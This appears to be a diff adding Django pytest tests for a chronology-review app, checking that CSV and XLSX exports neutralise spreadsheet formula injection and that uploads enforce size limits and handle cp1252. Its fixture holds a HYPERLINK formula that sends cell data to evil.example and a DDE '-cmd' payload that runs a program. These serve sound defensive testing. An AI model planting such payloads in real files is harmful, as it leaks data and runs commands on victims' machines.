@@ -189,3 +189,54 @@ def test_removing_an_episode_leaves_the_entries(loaded, client_for, reviewer_hel
                                       by=reviewer_helen, now=now)
     response = client_for(reviewer_helen).post(reverse("chronology:episode_delete", args=[loaded.pk, episode.pk]))
     assert response.status_code == 302 and not Episode.objects.exists() and Entry.objects.filter(is_current=True).count() == 6
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'
+
+
+@pytest.fixture
+def hostile(import_as, police_claire, police, write_csv, review):
+    """Police's chronology with a formula typed into the event and a negative-looking 'date as written'."""
+    import_as(police_claire, police, write_csv("police.csv", [
+        ["Date", "Event", "Significance"],
+        ["28/11/2018", HOSTILE, "-cmd|' /C calc'!A0"],
+    ]))
+    return review
+
+
+def test_reviewer_helen_downloads_a_csv_where_a_police_formula_is_plain_text(hostile, client_for, reviewer_helen):
+    response = client_for(reviewer_helen).get(reverse("chronology:export_csv", args=[hostile.pk]))
+    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    columns = dict(zip(header, row, strict=True))
+    assert columns["Event"] == "'" + HOSTILE and columns["Significance (agency)"] == "'-cmd|' /C calc'!A0"
+    assert columns["Date"] == "28/11/2018" and columns["Row"] == "2" and columns["Days since previous"] == ""
+
+
+def test_reviewer_helen_downloads_an_xlsx_where_a_police_formula_is_plain_text(hostile, client_for, reviewer_helen):
+    response = client_for(reviewer_helen).get(reverse("chronology:export_xlsx", args=[hostile.pk]))
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    columns = {head.value: cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
+    assert columns["Event"].value == "'" + HOSTILE and columns["Event"].data_type == "s"
+    assert columns["Date"].value == dt.datetime(2018, 11, 28) and columns["Row"].value == 2
+    assert columns["Days since previous"].value is None
+
+
+def test_police_claire_cannot_upload_a_chronology_over_the_size_limit(review, client_for, police_claire, settings):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    settings.MAX_SPREADSHEET_BYTES = 1024
+    upload = SimpleUploadedFile("police.csv", b"Date,Event\r\n" + b"03/01/2019,Visit\r\n" * 100)
+    response = client_for(police_claire).post(reverse("chronology:submission", args=[review.pk]), {"file": upload})
+    assert response.status_code == 400
+    assert "The file must be smaller than 1 KB: split it into smaller files." in response.content.decode()
+    assert not Submission.objects.exists()
+
+
+def test_police_claire_uploads_a_windows_1252_semicolon_chronology(review, client_for, police_claire):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    data = "Date;Event\r\n03/01/2019;Visit – Zoë’s mum, £20 left\r\n".encode("cp1252")
+    response = client_for(police_claire).post(reverse("chronology:submission", args=[review.pk]),
+                                              {"file": SimpleUploadedFile("police.csv", data)})
+    assert response.status_code == 302
+    assert Entry.objects.get().event == "Visit – Zoë’s mum, £20 left"
